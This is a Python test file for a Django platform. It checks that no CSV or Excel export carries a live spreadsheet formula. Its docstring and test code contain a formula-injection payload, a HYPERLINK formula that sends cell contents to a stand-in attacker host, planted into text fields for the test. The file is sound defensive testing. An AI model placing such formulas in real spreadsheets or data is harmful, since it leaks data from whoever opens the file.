"""Issue 26, finding 2: no spreadsheet the platform writes runs a formula.

A plan title like =HYPERLINK("http://evil.example/?leak="&A1,…) was a live formula in the public plans
workbook, and business names from an import were formulas in a task's visits.xlsx. The demo district is
seeded, a formula is put in front of every free-text field that reaches an export (and of every text in the
visit sheets and the frozen public results), then every CSV and Excel URL is fetched: no Excel cell is a
formula and no CSV cell starts with = + - @ tab or CR, while the planted text is there, as text. A CSV or
Excel URL added without a place in EXPORTS fails the test.
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.db import models
from django.db.models import F, Value
from django.db.models.functions import Concat

from shuangsuiji.accounts.models import Department, User
from shuangsuiji.common.tabular import FORMULA_START
from shuangsuiji.directory.models import Entity
from shuangsuiji.inspectors.models import Inspector
from shuangsuiji.items.models import InspectionItem
from shuangsuiji.plans.models import AnnualPlan, PlanEntry, Task, Visit
from shuangsuiji.push.exports import batches
from shuangsuiji.push.models import OutboxMessage
from shuangsuiji.results.deadlines import STATES
from shuangsuiji.results.models import Publication
from shuangsuiji.site import demo
from shuangsuiji.site.testing import routes

FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"点此")'
PLANTED = (Entity, InspectionItem, AnnualPlan, PlanEntry, Task, Inspector, Publication)
KEPT = {"uscc", "code", "number", "cert_no", "id_number", "phone", "status", "kind", "item_class", "level",
        "check_kind", "credit_class", "scale", "entity_type"}


def _years():
    return sorted(set(Task.objects.values_list("year", flat=True)))


def _codes():
    return ["all", "joint"] + list(Department.objects.values_list("code", flat=True))


EXPORTS = {
    "portal:data_file": lambda: [f"/public/data/{d}/{y}/{c}.csv" for d in ("plans", "tasks", "draws", "results")
                                 for y in _years() for c in ["all"] + list(Department.objects.values_list("code", flat=True))],
    "portal:items_csv": lambda: [f"/public/items/{c}.csv" for c in _codes()],
    "public_plans:export": lambda: [f"/public/plans/export/{y}.xlsx" for y in _years()],
    "plans:visits_xlsx": lambda: [f"/plans/tasks/{n}/visits.xlsx" for n in Task.objects.values_list("number", flat=True)],
    "inspectors:import_template": lambda: ["/inspectors/import/template.csv"],
    "directory:import_template": lambda: ["/directory/import/template.csv", "/directory/import/template.xlsx"],
    "push:export": lambda: [f"/push/exports/{b['day']:%Y-%m-%d}/{b['department__code']}.xlsx" for b in batches()],
    "results:deadlines": lambda: [f"/results/deadlines/?state={s}&format=xlsx" for s in STATES],
    "credit:warnings": lambda: ["/credit/warnings/?format=xlsx"],
    "credit:facts_template": lambda: ["/credit/import/template.csv", "/credit/import/template.xlsx"],
    "clues:import_template": lambda: ["/clues/import/template.csv", "/clues/import/template.xlsx"],
    "meeting:report_summary": lambda: [f"/meeting/reports/summary/?year={y}&half={h}&format=xlsx"
                                       for y in _years() for h in (1, 2)],
    "clues:dashboard": lambda: [f"/clues/dashboard/?by={by}&format=xlsx" for by in ("source", "department", "town")],
}


def _prefixed(value):
    if isinstance(value, str) and value:
        return FORMULA + value
    if isinstance(value, list):
        return [_prefixed(v) for v in value]
    if isinstance(value, dict):
        return {k: v if k in KEPT else _prefixed(v) for k, v in value.items()}
    return value


def plant_formulas() -> None:
    for model in PLANTED:
        texts = [f.name for f in model._meta.concrete_fields
                 if isinstance(f, models.CharField | models.TextField) and not f.unique and not f.choices
                 and f.name not in KEPT and (f.max_length or 10_000) > len(FORMULA) + 20]
        model.objects.update(**{name: Concat(Value(FORMULA), F(name)) for name in texts})
    for visit in Visit.objects.all():
        Visit.objects.filter(pk=visit.pk).update(sheet=_prefixed(visit.sheet))
    for publication in Publication.objects.all():
        Publication.objects.filter(pk=publication.pk).update(lines=_prefixed(publication.lines))
    for message in OutboxMessage.objects.all():  # frozen when written: planted like the publications
        OutboxMessage.objects.filter(pk=message.pk).update(payload=_prefixed(message.payload))


def cells(response) -> tuple[str, list]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    if body[:4] == b"PK\x03\x04":
        book = openpyxl.load_workbook(io.BytesIO(body))
        return "xlsx", [c for ws in book.worksheets for row in ws.iter_rows() for c in row]
    return "csv", [v for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for v in row]


def test_every_csv_and_excel_url_is_in_the_walk():
    downloads = {name for name, path in routes() if path.endswith((".csv", ".xlsx", ".no-such"))}
    assert downloads - set(EXPORTS) == set(), "a CSV or Excel URL was added without a place in EXPORTS"


@pytest.mark.django_db
def test_no_export_runs_a_formula(client, settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path
    demo.seed(entities=300)
    plant_formulas()
    client.force_login(User.objects.get(username="office"))
    formulas, live, fetched, planted = [], [], 0, 0
    for paths in EXPORTS.values():
        for path in paths():
            response = client.get(path)
            assert response.status_code in (200, 404), f"{path} answered {response.status_code}"
            if response.status_code == 404:
                continue
            fetched += 1
            kind, found = cells(response)
            if kind == "xlsx":
                formulas += [f"{path} {c.coordinate}" for c in found if c.data_type == "f"]
                planted += sum(isinstance(c.value, str) and c.value.startswith(FORMULA) for c in found)
            else:
                live += [f"{path}: {v[:40]}" for v in found if v.startswith(FORMULA_START)]
                planted += sum(v.startswith("'" + FORMULA) for v in found)
    assert fetched > 20 and planted > 100, (fetched, planted)
    assert formulas == [] and live == []
